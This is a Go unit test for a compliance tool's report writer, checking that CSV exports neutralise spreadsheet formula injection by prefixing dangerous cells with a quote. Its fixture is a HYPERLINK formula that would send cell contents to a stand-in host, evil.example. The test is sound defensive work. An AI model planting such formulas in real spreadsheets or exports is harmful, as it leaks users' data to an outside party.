package report

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/onus-sec/onus"
)

// A device named like a formula is written as text: spreadsheets would
// otherwise run it (OWASP CSV injection).
func TestFindingsCSVNeutralisesFormulas(t *testing.T) {
	evil := `=HYPERLINK("https://evil.example/?leak="&A1,"Open report")`
	now := time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
	fs := []onus.Finding{{ID: 1, Control: "edr", Entity: "device:serial:X", EntityName: evil, Responsible: onus.Person{Email: "@jane"},
		OwnerReason: "+owner", FirstFailed: now, Due: now}}
	var b bytes.Buffer
	if err := WriteFindings(&b, fs, CSV, now); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, c := range row {
			if c != "" && (c[0] == '=' || c[0] == '+' || c[0] == '@') {
				t.Errorf("cell %q starts a formula", c)
			}
		}
		if row[6] != "'"+evil {
			t.Errorf("entity_name = %q", row[6])
		}
	}
}
